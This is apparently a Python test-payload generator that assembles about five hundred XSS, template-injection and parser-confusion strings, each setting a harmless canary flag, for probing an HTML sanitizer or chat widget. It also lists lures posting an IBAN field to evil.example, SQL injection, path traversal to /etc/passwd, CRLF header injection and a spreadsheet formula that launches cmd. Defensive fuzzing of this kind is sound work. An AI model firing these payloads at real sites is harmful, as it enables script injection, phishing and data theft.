"""Five hundred texts that would run something if a page took them for anything but text.

Built from their parts: what calls, what carries it, how it hides. Each sets `window.getroffen` where it succeeds.
"""

from collections.abc import Iterator
from itertools import product

RUF = "window.getroffen=1"
RUFE = (RUF, "top.getroffen=1", "self['getroffen']=1", "(()=>{window.getroffen=1})()")

TRAEGER = (
    "img src=x onerror",
    "svg onload",
    "body onload",
    "video src=x onerror",
    "audio src=x onerror",
    "details open ontoggle",
    "input autofocus onfocus",
    "textarea autofocus onfocus",
    "select autofocus onfocus",
    "button autofocus onfocus",
    "marquee onstart",
    "iframe onload",
    "object data=x onerror",
    "embed src=x onerror",
    "link rel=stylesheet href=x onerror",
    "style onload",
    "script src=x onerror",
    "div onanimationstart",
    "a href=# onmouseover",
    "p onpointerenter",
    "form onformdata",
    "dialog open onclose",
    "svg><animate attributeName=x dur=1s onbegin",
    "svg><set attributeName=x onbegin",
    "svg><image href=x onerror",
    "lotse-chat onload",
)
ADRESSEN = (
    "javascript:{ruf}",
    "JaVaScRiPt:{ruf}",
    " javascript:{ruf}",
    "java\tscript:{ruf}",
    "java\nscript:{ruf}",
    "&#106;avascript:{ruf}",
    "&#x6A;avascript&colon;{ruf}",
    "javascript&#58;{ruf}",
    "vbscript:{ruf}",
    "data:text/html,<script>{ruf}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuZ2V0cm9mZmVuPTE8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg onload={ruf}>",
    "blob:javascript:{ruf}",
    "//evil.example/{ruf}",
    "https://evil.example\\@ok.example/{ruf}",
)
ZIELE = (
    "{adresse}",
    '<a href="{adresse}">hier</a>',
    '<iframe src="{adresse}"></iframe>',
    '<form action="{adresse}"><button>Weiter</button></form>',
    '<object data="{adresse}"></object>',
    "[hier]({adresse})",
)
AUSBRUECHE = (
    "</p>",
    "</textarea>",
    "</title>",
    "</style>",
    "</script>",
    "</template>",
    "</noscript>",
    "</svg>",
    "</option></select>",
    "</button></div></main>",
    '">',
    "'>",
    '" autofocus x="',
    "' autofocus x='",
    "--><!-- -->",
    "]]>",
    "*/",
    "`>",
    '\\">',
    "</lotse-chat>",
)
KERNE = (
    f"<script>{RUF}</script>",
    f"<img src=x onerror={RUF}>",
    f"<svg onload={RUF}>",
    "<iframe srcdoc='<script>parent.getroffen=1</script>'></iframe>",
    f"onfocus={RUF} tabindex=0",
)
VORLAGEN = (
    "{{constructor.constructor('%s')()}}",
    "{{%s}}",
    "${%s}",
    "#{%s}",
    "<%%= %s %%>",
    "{%% %s %%}",
    "*{%s}",
    "[[%s]]",
    "@(%s)",
    "%s//",
    "';%s;//",
    '";%s;//',
    "`+%s+`",
    "\\u003cscript\\u003e%s\\u003c/script\\u003e",
    "\\x3cscript\\x3e%s\\x3c/script\\x3e",
    "&lt;script&gt;%s&lt;/script&gt;",
    "&amp;lt;img src=x onerror=%s&amp;gt;",
    "%%3Cscript%%3E%s%%3C/script%%3E",
    "＜script＞%s＜/script＞",
    "<scr<script>ipt>%s</scr</script>ipt>",
    "<ScRiPt>%s</sCrIpT>",
    "<script/x>%s</script x>",
    "<script\t>%s</script\t>",
    "<script src=data:,%s></script>",
    "<script type=module>%s</script>",
)
VERWECHSLUNGEN = (
    "<math><mtext></form><form><mglyph><style></math><img src onerror=%s>",
    '<svg></p><style><a id="</style><img src=1 onerror=%s>">',
    '<noscript><p title="</noscript><img src=x onerror=%s>">',
    "<table><td><img src=x onerror=%s></table>",
    "<select><template><img src=x onerror=%s></template></select>",
    "<svg><foreignObject><img src=x onerror=%s></foreignObject></svg>",
    "<svg><desc><img src=x onerror=%s></desc></svg>",
    "<math href=javascript:%s>x</math>",
    "<xmp><img src=x onerror=%s></xmp>",
    "<plaintext><img src=x onerror=%s>",
    "<template shadowrootmode=open><script>%s</script></template>",
    "<!--><img src=x onerror=%s>-->",
    "<![CDATA[><img src=x onerror=%s>]]>",
    "<?xml ><img src=x onerror=%s>?>",
    "<frameset onload=%s>",
)
UMBAUTEN = (
    "<style>@import 'data:text/css,*{display:none}'</style>",
    "<style>:host{display:none!important}</style>",
    "<link rel=stylesheet href='data:text/css,*{display:none}'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">",
    "<form action=https://evil.example/><input name=iban><button>Weiter</button></form>",
    "<dialog open><input type=password></dialog>",
    "<img src=https://evil.example/zaehler.gif>",
    "<img name=getroffen><form id=getroffen></form>",
    "<a id=lotse><a id=lotse name=oeffnen href=x>",
    "<input form=composer name=submit>",
    "<label for=eingabe>Ihr Passwort</label>",
    "<div style='position:fixed;inset:0;background:red'></div>",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "\u202egnp.exe\u2066",
    "\u200f\u200bSofa\u200d",
    "So\u0301fa\u0327" * 20,
    "\ufeff<b>fett</b>",
    "\U000e0001\U000e0041 versteckt",
    "%00%0d%0aSet-Cookie: a=b",
    "\r\nContent-Type: text/html\r\n\r\n<script>window.getroffen=1</script>",
    "../../../../etc/passwd",
    "C:\\Windows\\win.ini",
    "' OR 1=1 --",
    "'); DROP TABLE nachrichten; --",
    '=HYPERLINK("https://evil.example")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "/restart",
    "/session_start",
    "A" * 3_000,
)


def _handlers() -> Iterator[str]:
    for traeger, ruf in product(TRAEGER, RUFE):
        yield f"<{traeger}={ruf}>"
    for traeger in TRAEGER:
        yield f'<{traeger.replace(" ", "/")}="{RUF}"//'
        yield f"<{traeger.upper()}='{RUF}'>"


def _addresses() -> Iterator[str]:
    for adresse, ziel in product(ADRESSEN, ZIELE):
        yield ziel.format(adresse=adresse.format(ruf=RUF))


def _breakouts() -> Iterator[str]:
    for ausbruch, kern in product(AUSBRUECHE, KERNE):
        yield ausbruch + kern


def _templates() -> Iterator[str]:
    for vorlage, ruf in product((*VORLAGEN, *VERWECHSLUNGEN), RUFE[:3]):
        yield vorlage % ruf


def payloads() -> list[str]:
    """All of them, each once, in a fixed order; the rough ones among the fine."""
    return list(dict.fromkeys([*_handlers(), *_addresses(), *_breakouts(), *_templates(), *UMBAUTEN]))
